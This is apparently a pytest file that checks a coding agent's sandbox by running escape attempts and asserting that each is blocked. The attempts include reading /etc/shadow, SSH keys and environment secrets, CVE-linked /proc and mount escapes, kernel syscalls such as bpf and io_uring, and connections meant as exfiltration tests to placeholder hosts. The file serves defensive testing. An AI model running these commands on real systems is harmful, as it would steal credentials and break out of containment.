"""Attacks of a shell command on what lies outside of its sandbox: files, processes, secrets, the kernel."""

from __future__ import annotations

import ctypes
import os
import re
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from arena import KEY_NAME, SECRET, Arena, Attack

from nanocode.agent import matching, search
from nanocode.agent.processes import Bounds, run_bounded

READ_ONLY, DENIED, MISSING, NOT_PERMITTED = (
    "Read-only file system",
    "Permission denied",
    "No such file or directory",
    "Operation not permitted",
)
REFUSED = f"{READ_ONLY}|{DENIED}"

COMMANDS = [
    Attack("password file", "CWE-552", "cat /etc/passwd /etc/shadow", MISSING),
    Attack("the user's home", "dotfiles and keys; claude-code#15789", "ls -A {home} {home}/.ssh", MISSING),
    Attack("sibling folder", "CWE-22", "cat ../outside/secret.txt {outside}/secret.txt", MISSING),
    Attack(
        "link out", "CWE-59: the link is made inside, where it dangles", "ln -s {outside} l; cat l/secret.txt", MISSING
    ),
    Attack("root of the first process", "CWE-59: magic links", "cat /proc/1/root{outside}/secret.txt", DENIED),
    Attack("folder of the first process", "CVE-2024-21626", "cat /proc/1/cwd/../{outside}/secret.txt", DENIED),
    Attack("old root", "what pivot_root leaves behind", "ls /oldroot /newroot", MISSING),
    Attack("system tree", "CVE-2022-0492: release_agent and uevent_helper", "ls /sys/fs/cgroup", MISSING),
    Attack("raw memory", "disks and memory are files too", "head -c 1 /dev/mem /dev/kmem /dev/sda /dev/vda", MISSING),
    Attack("a device of one's own", "CWE-732: mknod in a writable folder", "mknod d b 8 0", DENIED),
    Attack("system programs", "CWE-732", "cp a.py /usr/bin/ls", READ_ONLY),
    Attack("the root folder", "a tmpfs without a size", "echo x > /x", READ_ONLY),
    Attack(
        "the starter",
        "code that runs in every later sandbox",
        "echo x > /run/confine/nanocode/agent/confine.py",
        READ_ONLY,
    ),
    Attack("a name on PATH", "CVE-2026-22708", "cp a.py /run/bin/git", READ_ONLY),
    Attack(
        "the interpreter by proc",
        "CVE-2019-5736: runc overwritten by /proc/self/exe",
        "python -c \"open('/proc/self/exe', 'wb')\"",
        READ_ONLY,
    ),
    Attack(
        "kernel settings", "core_pattern runs a program outside", "echo '|/x' > /proc/sys/kernel/core_pattern", REFUSED
    ),
    Attack("magic keys", "sysrq reboots the machine", "echo b > /proc/sysrq-trigger", f"{REFUSED}|{MISSING}"),
    Attack(
        "own process settings",
        "oom_score_adj protects a hog; Landlock alone refuses this",
        "echo -500 > /proc/self/oom_score_adj",
        DENIED,
    ),
    Attack("another's memory", "CVE-2012-0056: /proc/PID/mem", "echo x > /proc/1/mem", DENIED),
    Attack(
        "mount",
        "CVE-2022-0185: fsconfig; the way out of many containers",
        "mount -t tmpfs x /project",
        "must be superuser",
    ),
    Attack(
        "unmount", "what a read-only mount covers", "umount -l -i /proc; umount -l /", "umount failed|must be superuser"
    ),
    Attack(
        "remount",
        "read-only made writable",
        "mount -o remount,rw,bind /usr; mount -o remount,rw /",
        "must be superuser",
    ),
    Attack(
        "nested namespaces",
        "CVE-2022-0185, CVE-2024-1086: a root of one's own reaches more of the kernel",
        "unshare -Ur id",
        NOT_PERMITTED,
    ),
    Attack("new root", "chroot with a folder held open", "/usr/sbin/chroot / true", NOT_PERMITTED),
    Attack("another's namespaces", "nsenter into the first process", "nsenter -t 1 -m true", DENIED),
    Attack("kernel log", "addresses that help an exploit", "dmesg", NOT_PERMITTED),
    Attack("clock", "time set back hides what was done", "date -s 2001-01-01", NOT_PERMITTED),
    Attack("host name", "CWE-250", "hostname evil", "hostname"),
    Attack("another user", "CWE-250: privileges by su", "su -c id; setpriv --reuid 0 id", "setresuid failed"),
    Attack(
        "set-user-id bit",
        "a program in the workspace that runs as whoever started the agent",
        "cp /bin/bash b; chmod u+s b",
        NOT_PERMITTED,
    ),
    Attack("set-group-id bit", "the same by install", "install -m 2755 /bin/true t", NOT_PERMITTED),
    Attack("giving files away", "CWE-282", "touch f; chown 0 f", "chown"),
    Attack(
        "the terminal",
        "CVE-2017-5226: a command typed into the user's terminal",
        "echo x > /dev/tty; cat < /dev/console",
        MISSING,
    ),
    Attack(
        "other processes",
        "CWE-214: command lines hold secrets",
        "cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep -c 'py[t]est'",
        "^0\n",
    ),
    Attack(
        "paths of the machine",
        "CWE-200: bubblewrap's own command line names every mount",
        "cat /proc/1/cmdline | tr '\\0' ' ' | grep -c 'ro-[b]ind'",
        "^0\n",
    ),
    Attack(
        "environment",
        "CVE-2026-22708: keys live in the environment",
        "env; export -p; cat /proc/*/environ | tr '\\0' '\\n'",
        "LANG=C.UTF-8",
    ),
    Attack(
        "open files",
        "CVE-2024-21626: a descriptor left open",
        "ls -l /proc/self/fd | grep -c -e /project -e memfd -e socket",
        "^0\n",
    ),
]


@pytest.mark.parametrize("attack", COMMANDS, ids=str)
def test_a_command_cannot(arena: Arena, attack: Attack) -> None:
    names = {"outside": str(arena.outside), "home": str(Path.home())}
    command = attack.attempt
    for name, value in names.items():
        command = command.replace(f"{{{name}}}", value)
    output = arena.use("Bash", command=command)
    assert (
        re.search(attack.seen, output) and SECRET not in output and KEY_NAME not in output and "root:x:" not in output
    )
    assert not any(path.stat().st_mode & 0o6000 for path in arena.root.rglob("*") if not path.is_symlink())


CALLS = [
    Attack("keyring", "CVE-2016-0728: the session keyring has no namespace", "call('keyctl', 250, 219, 0, -3, 1)", "1"),
    Attack(
        "a key of one's own", "keys outlive the sandbox", "call('add_key', 248, 217, b'user', b'x', b'y', 1, -3)", "1"
    ),
    Attack("programs in the kernel", "CVE-2021-3490: bpf", "call('bpf', 321, 280, 0, 0, 0)", "1"),
    Attack(
        "rings", "CVE-2022-29582: io_uring carries out calls past a filter", "call('io_uring', 425, 425, 1, 0)", "1"
    ),
    Attack(
        "page faults",
        "userfaultfd holds the kernel still in the middle of a race",
        "call('userfaultfd', 323, 282, 0)",
        "1",
    ),
    Attack("counters", "CVE-2013-2094: perf_event_open", "call('perf', 298, 241, 0, 0, -1, -1, 0)", "1"),
    Attack("new mount calls", "CVE-2022-0185: fsopen", "call('fsopen', 430, 430, b'ext4', 0)", "1"),
    Attack("handles", "the shocker exploit: files by number", "call('open_by_handle_at', 304, 265, 0, 0, 0)", "1"),
    Attack("clone with users", "CVE-2024-1086", "call('unshare', 272, 97, 0x10000000)", "1"),
    Attack("modules", "code in the kernel itself", "call('finit_module', 313, 273, 0, b'', 0)", "1"),
    Attack("memory without a name", "CWE-770: files that no limit counts", "call('memfd', 319, 279, b'x', 0)", "1"),
    Attack(
        "another architecture",
        "numbers of the x32 table pass a filter for the usual one",
        "call('x32', 0x40000000 + 321, -1, 0)",
        "38",
    ),
]


@pytest.mark.parametrize("attack", CALLS, ids=str)
def test_the_kernel_does_not_even_look_at(arena: Arena, attack: Attack) -> None:
    code = (
        "import ctypes, os\n"
        "library = ctypes.CDLL(None, use_errno=True)\n"
        "def call(name, x86_64, aarch64, *arguments):\n"
        "    number = {'x86_64': x86_64, 'aarch64': aarch64}[os.uname().machine]\n"
        "    words = [a if isinstance(a, bytes) else ctypes.c_long(a) for a in arguments]\n"
        "    result = library.syscall(ctypes.c_long(number), *words)\n"
        "    print(result, ctypes.get_errno())\n"
    )
    assert arena.python(code + attack.attempt) == f"-1 {attack.seen}\n"


def test_typing_into_a_terminal(arena: Arena) -> None:
    """CVE-2017-5226: TIOCSTI puts characters into the terminal's input; also on one of the command's own."""
    code = (
        "import fcntl, os, pty\n"
        "leader, follower = pty.openpty()\n"
        "for request in (0x5412, 0x541C):\n"
        "    try: fcntl.ioctl(follower, request, b'x')\n"
        "    except OSError as error: print(error.errno)\n"
    )
    assert arena.python(code) == "1\n1\n"


@pytest.mark.parametrize("mode", ["os.open('p', os.O_CREAT | os.O_WRONLY, 0o4755)", "os.mknod('p', 0o104755)"])
def test_a_file_that_is_born_with_the_bit(arena: Arena, mode: str) -> None:
    """CWE-732: chmod is not the only call that sets modes."""
    assert "Operation not permitted" in arena.python(f"import os\n{mode}")
    assert not (arena.root / "p").exists()


@contextmanager
def sleeper() -> Iterator[subprocess.Popen[bytes]]:
    """A process of ours outside."""
    with subprocess.Popen(["sleep", "60"]) as process:
        try:
            yield process
        finally:
            process.kill()


def test_killing_and_tracing_processes_outside(arena: Arena) -> None:
    """The same user may signal all of his processes, unless they are in another namespace."""
    with sleeper() as process:
        code = (
            "import ctypes, os, signal\n"
            "library = ctypes.CDLL(None, use_errno=True)\n"
            f"for pid in ({process.pid}, {os.getpid()}):\n"
            "    try: os.kill(pid, signal.SIGKILL)\n"
            "    except OSError as error: print(error.errno)\n"
            "    attached = library.ptrace(16, pid, 0, 0)\n"
            "    print(attached, ctypes.get_errno())\n"
        )
        assert arena.python(code).split() == ["3", "-1", "3"] * 2
        arena.shell("kill -9 -1")
        assert process.poll() is None


def test_a_descriptor_that_was_left_open(arena: Arena) -> None:
    """CVE-2024-21626: runc leaked a folder of the host, and its parent is the way out."""
    descriptor = os.open(arena.outside, os.O_RDONLY)
    os.set_inheritable(descriptor, True)
    try:
        command = f"cat /proc/self/fd/{descriptor}/secret.txt; ls /proc/self/fd | wc -l"
        output = arena.use("Bash", command=command)
    finally:
        os.close(descriptor)
    assert SECRET not in output and output.endswith("\n4")


@pytest.mark.parametrize("name", ["ctypes.py", "os.py", "json.py", "sitecustomize.py", "bash", "true", "prlimit"])
def test_a_file_of_the_workspace_is_not_taken_for_a_part_of_us(arena: Arena, name: str) -> None:
    """CWE-427: what we start outside, as whoever we are, must not look into the folder where it stands."""
    (arena.root / name).write_text(f"#!/bin/sh\nopen({str(arena.outside / 'taken')!r}, 'w')\n")
    (arena.root / name).chmod(0o755)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PYTHONPATH", str(arena.root))
        patch.setenv("PATH", f".{os.pathsep}{arena.root}{os.pathsep}{os.environ['PATH']}")
        assert arena.use("Bash", command="echo safe") == "safe"
        assert arena.use("Grep", pattern="(x+)+ =", path="a.py") == "a.py:1:x = 1"


def test_shared_memory_of_processes_outside(arena: Arena) -> None:
    """CWE-668: System V memory and queues are found by number, /dev/shm by name."""
    shared = Path("/dev/shm/nanocode-attack")
    shared.write_text(SECRET)
    library = ctypes.CDLL(None)
    key, size, create = 0x51966, 4096, 0o1600
    segment = library.shmget(key, size, create)
    try:
        assert segment >= 0
        code = f"import ctypes\nprint(ctypes.CDLL(None).shmget({key}, {size}, 0))"
        assert arena.python(code) == "-1\n"
        assert SECRET not in arena.use("Bash", command=f"cat {shared}; ipcs -m")
    finally:
        library.shmctl(segment, 0, None)
        shared.unlink()


@contextmanager
def listening(family: socket.AddressFamily, kind: socket.SocketKind, address: object) -> Iterator[socket.socket]:
    """A listener outside that must hear nothing."""
    with socket.socket(family, kind) as server:
        server.bind(address)  # type: ignore[arg-type]
        if kind == socket.SOCK_STREAM:
            server.listen()
        server.settimeout(0.05)
        yield server
        with pytest.raises(TimeoutError):
            server.accept() if kind == socket.SOCK_STREAM else server.recv(10)


def send(family: str, kind: str, address: object) -> str:
    return (
        "import socket\n"
        f"s = socket.socket(socket.{family}, socket.{kind})\n"
        "s.settimeout(1)\n"
        f"try: s.connect({address!r}); s.send(b'key'); print('sent')\n"
        "except OSError as error: print(type(error).__name__, error.errno)\n"
    )


@pytest.mark.parametrize(("kind", "seen"), [("SOCK_STREAM", "ConnectionRefusedError"), ("SOCK_DGRAM", "sent")])
@pytest.mark.parametrize(("family", "host"), [("AF_INET", "127.0.0.1"), ("AF_INET6", "::1")])
def test_the_network_of_the_machine(arena: Arena, family: str, host: str, kind: str, seen: str) -> None:
    """Exfiltration, and services on loopback that trust whoever reaches them; a datagram arrives nowhere."""
    if family == "AF_INET6" and not Path("/proc/net/if_inet6").exists():
        family, host = "AF_INET", "127.0.0.2"
    with listening(socket.AddressFamily[family], socket.SocketKind[kind], (host, 0)) as server:
        assert seen in arena.python(send(family, kind, (host, server.getsockname()[1])))


def test_addresses_elsewhere_and_names(arena: Arena) -> None:
    """Exfiltration by connection, by datagram and by the name that is looked up."""
    assert "101" in arena.python(send("AF_INET", "SOCK_STREAM", ("192.0.2.1", 80)))
    assert "101" in arena.python(send("AF_INET", "SOCK_DGRAM", ("192.0.2.1", 53)))
    assert "gaierror" in arena.python(send("AF_INET", "SOCK_STREAM", ("key.example.org", 80)))


def test_an_abstract_socket_of_the_machine(arena: Arena) -> None:
    """CVE-2020-15257: containerd's socket was reached by its abstract name."""
    name = b"\0nanocode-attack"
    with listening(socket.AF_UNIX, socket.SOCK_STREAM, name):
        assert "ConnectionRefusedError" in arena.python(send("AF_UNIX", "SOCK_STREAM", name))


def test_a_socket_that_stands_in_the_workspace(arena: Arena) -> None:
    """A path is reached whatever the network namespace: an agent's, an editor's or a container engine's socket."""
    with listening(socket.AF_UNIX, socket.SOCK_STREAM, "service.sock"):
        assert "Error" in arena.python(send("AF_UNIX", "SOCK_STREAM", "service.sock"))


def test_a_pipe_that_stands_in_the_workspace(arena: Arena) -> None:
    """Somebody outside reads from it, and perhaps does what it says."""
    os.mkfifo("pipe")
    reader = os.open("pipe", os.O_RDONLY | os.O_NONBLOCK)
    try:
        assert "Permission denied" in arena.shell("echo run > pipe").output
        assert os.read(reader, 10) == b""
    finally:
        os.close(reader)


@pytest.mark.parametrize("family", [17, 38, 40, 16 + 29])
def test_sockets_of_other_families(arena: Arena, family: int) -> None:
    """CVE-2017-7308 (packet), CVE-2019-8912 (crypto), CVE-2021-26708 (vsock, which leads to the host), and the rest."""
    code = f"import socket\ntry: socket.socket({family}, 2)\nexcept OSError as error: print(error.errno)"
    assert arena.python(code) == "97\n"


def test_the_child_of_grep_has_no_files_and_no_network(arena: Arena) -> None:
    """A flaw in the matching engine would run code outside of any namespace, on a pattern that a model chose."""
    with listening(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)) as server:
        address = server.getsockname()
        program = (
            "import os, socket; socket.getaddrinfo('127.0.0.1', 9); matching.landlock.restrict({}, tcp=False)\n"
            f"for attempt in (lambda: open({str(arena.root / 'a.py')!r}), lambda: open('new', 'w'),\n"
            f"    lambda: os.listdir('/'), lambda: socket.create_connection({address!r}, 1),\n"
            f"    lambda: os.kill({os.getpid()}, 0)):\n"
            "    try: attempt(); print('done')\n"
            "    except OSError as error: print(error.errno)\n"
        )
        command = search.child_command("exec(sys.argv[1])")
        completed = run_bounded([*command, program], Bounds(5, 1000, 1000), environment={})
    abi = matching.landlock.version()
    assert abi > 0, "Landlock is switched off here"
    assert completed.output.split() == ["13", "13", "13", "13" if abi >= 4 else "done", "1" if abi >= 6 else "done"]


def test_a_handler_of_ours_does_not_run_inside(arena: Arena) -> None:
    """Python ignores two signals; a command that inherits that writes into closed pipes for ever."""
    assert arena.use("Bash", command="yes | head -1; echo ${PIPESTATUS[0]}") == f"y\n{128 + signal.SIGPIPE}"


def test_two_sandboxes_do_not_meet(arena: Arena) -> None:
    """Both run as the same user of the machine: files, processes and signals of one are hidden from the other."""
    answers: list[str] = []

    def run(command: str) -> None:
        answers.append(arena.shell(command).output)

    first = threading.Thread(
        target=run, args=("echo inside > /tmp/note; echo inside > /dev/shm/note; sleep 0.6; cat /tmp/note",)
    )
    first.start()
    second = arena.shell("sleep 0.2; cat /tmp/note /dev/shm/note; pgrep -x sleep | wc -l; kill -9 -1").output
    first.join()
    assert answers == ["inside\n"] and "inside" not in second and second.count(MISSING) == 2


def test_the_interpreter_inside_is_ours(arena: Arena) -> None:
    """CVE-2026-22708: a poisoned environment decides which program a name means, also in the next call."""
    arena.use("Bash", command="export PATH=/project PYTHONHOME=/project LD_PRELOAD=/project/x.so; alias python=false")
    assert arena.use("Bash", command="python -c 'print(1)'; echo $LD_PRELOAD") == "1"
    assert sys.version_info >= (3, 11)
